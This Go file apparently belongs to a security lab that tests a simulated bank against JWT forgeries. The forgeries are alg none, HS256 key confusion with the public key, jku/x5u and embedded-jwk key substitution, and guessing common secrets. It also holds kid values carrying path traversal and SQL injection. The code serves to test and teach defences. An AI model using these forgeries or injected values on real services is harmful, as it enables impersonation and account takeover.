package lab

import (
	"encoding/base64"
	"encoding/pem"
	"fmt"
	"maps"
	"slices"
	"strings"

	"github.com/go-json-experiment/json"
)

// forgeAttacks are those of a thief who has nothing of the owner's: he signs in
// with his own account, and makes the owner's token out of his own.
var forgeAttacks = []Attack{
	{Name: "forge-none", Title: "Forged JWT: alg none", run: forging(forgeNone),
		About: "The token says that it is not signed, in several spellings, and is not."},
	{Name: "forge-confusion", Title: "Forged JWT: HS256 with the public key", run: forging(forgeConfusion),
		About: "The token says that it is signed by a shared secret, and is, by the bank's public key, which everybody knows."},
	{Name: "forge-kid", Title: "Forged JWT: kid names another key", run: forging(forgeKid),
		About: "The token names its key so that a file is read that is empty, or a query answers with the thief's key."},
	{Name: "forge-jku", Title: "Forged JWT: jku names the thief's key set", run: forging(forgeJKU),
		About: "The token says that its key is on a host of the thief, where it is."},
	{Name: "forge-jwk", Title: "Forged JWT: key in the token", run: forging(forgeJWK),
		About: "The token brings the thief's public key along and is signed by its private one."},
	{Name: "forge-secret", Title: "Forged JWT: guessed secret", run: forging(forgeSecret),
		About: "The thief tries a list of secrets on his own token, without asking anybody, and signs by the one that fits."},
}

// A sample is the thief's own token, taken apart.
type sample struct {
	raw            string
	header, claims map[string]any
}

// A forger makes tokens for the claims of a sample, and says when one worked
// why, and when none did, why not.
type forger func(s *stage, own sample) (forged []string, worked, failed string)

// forging is an attack with what a forger makes.
func forging(forge forger) func(*stage) Outcome {
	return func(s *stage) Outcome {
		s.did("The thief signs in with his own account and looks at his token.")
		holder := s.signedIn("thief", mallory)
		raw, put := holder.jwt()
		if raw == "" {
			return notApplicable("The token is a random id: there is nothing in it to change.")
		}
		own := sample{raw: raw, header: must(decoded(raw, 0)), claims: must(decoded(raw, 1))}
		own.claims["sub"] = s.bank.called(ada)
		forged, worked, failed := forge(s, own)
		s.did("The thief uses %d forged tokens, which say that he is the owner.", len(forged))
		for _, token := range forged {
			put(token)
			if s.whom(holder) == ada {
				return elsewhere(worked)
			}
		}
		return refused(failed)
	}
}

// jwt returns the JWT that the device holds, and what puts another in its
// place.
func (d *device) jwt() (raw string, put func(string)) {
	if strings.Count(d.access, ".") == 2 {
		return d.access, func(forged string) { d.access = forged }
	}
	for name, c := range d.jar {
		if strings.Count(c.value, ".") == 2 {
			return c.value, func(forged string) { d.jar[name] = biscuit{forged, c.path} }
		}
	}
	return "", nil
}

func decoded(raw string, part int) (map[string]any, error) {
	text, err := base64.RawURLEncoding.DecodeString(strings.Split(raw, ".")[part])
	if err != nil {
		return nil, fmt.Errorf("the thief's own token: %w", err)
	}
	var v map[string]any
	return v, json.Unmarshal(text, &v)
}

// with makes a token with a header that is changed.
func (own sample) with(changes map[string]any, sign func(input string) []byte) string {
	header := maps.Clone(own.header)
	maps.Copy(header, changes)
	input := part(header) + "." + part(own.claims)
	return input + "." + base64.RawURLEncoding.EncodeToString(sign(input))
}

func unsigned(string) []byte { return nil }

func bySecret(secret string) func(string) []byte {
	return func(input string) []byte { return mac(input, []byte(secret)) }
}

func byForger(input string) []byte { return rs256(input, forgersKey()) }

// pinned is why none of these works where the header is compared and not
// believed.
const pinned = "What a token says about its own verification is not asked."

func forgeNone(_ *stage, own sample) (forged []string, worked, failed string) {
	for _, none := range []string{"none", "None", "NONE", "nOnE"} {
		forged = append(forged, own.with(map[string]any{"alg": none}, unsigned))
	}
	return forged, "A token without a signature is good if it says so.", pinned
}

// forgeConfusion tries every spelling of every key that the bank publishes.
func forgeConfusion(s *stage, own sample) (forged []string, worked, failed string) {
	s.did("The thief fetches what the bank publishes of its keys.")
	visitor := s.device("thief")
	for _, path := range []string{"/public.pem", "/.well-known/jwks.json"} {
		published := must(visitor.ask("GET", path, "")).body
		secrets := []string{string(published)}
		if block, _ := pem.Decode(published); block != nil {
			secrets = append(secrets, strings.TrimSpace(string(published)), string(block.Bytes))
		}
		var set struct {
			Keys []map[string]any `json:"keys"`
		}
		if json.Unmarshal(published, &set) == nil {
			for _, key := range set.Keys {
				x, _ := key["x"].(string)
				raw, _ := base64.RawURLEncoding.DecodeString(x)
				secrets = append(secrets, x, string(raw), string(must(json.Marshal(key))))
			}
		}
		for _, secret := range secrets {
			forged = append(forged, own.with(map[string]any{"alg": "HS256"}, bySecret(secret)))
		}
	}
	return forged, "The token chose the algorithm, and the public key served as its secret.", pinned
}

func forgeKid(_ *stage, own sample) (forged []string, worked, failed string) {
	for kid, secret := range map[string]string{"../../../../dev/null": "", "/dev/null": "", "x' UNION SELECT 'thief": "thief", "": ""} {
		forged = append(forged, own.with(map[string]any{"alg": "HS256", "kid": kid}, bySecret(secret)))
	}
	slices.Sort(forged)
	return forged, "The name of the key is a path, and leads to a file that everybody knows.", pinned
}

func forgeJKU(s *stage, own sample) (forged []string, worked, failed string) {
	address := s.document(s.stranger, string(must(json.Marshal(map[string]any{"keys": []any{jwkOf(&forgersKey().PublicKey)}}))))
	for _, name := range []string{"jku", "x5u"} {
		forged = append(forged, own.with(map[string]any{"alg": "RS256", name: address}, byForger))
	}
	return forged, "The key is fetched from wherever the token says.", pinned
}

func forgeJWK(_ *stage, own sample) (forged []string, worked, failed string) {
	forged = append(forged, own.with(map[string]any{"alg": "RS256", "jwk": jwkOf(&forgersKey().PublicKey)}, byForger))
	return forged, "The token is verified by the key that it brings along.", pinned
}

// commonSecrets begin every list that is tried.
var commonSecrets = []string{"", "secret", "changeme", "password", "jwt", "jwt_secret", "your-256-bit-secret", "your_jwt_secret", "supersecret", "key", "123456"}

func forgeSecret(_ *stage, own sample) (forged []string, worked, failed string) {
	cutAt := strings.LastIndexByte(own.raw, '.')
	for _, secret := range commonSecrets {
		if base64.RawURLEncoding.EncodeToString(mac(own.raw[:cutAt], []byte(secret))) == own.raw[cutAt+1:] {
			forged = append(forged, own.with(nil, bySecret(secret)))
		}
	}
	return forged, "The secret is the one of the example, which is in every list.", "No secret in the list fits: it is long and random, or there is none, only a key pair."
}
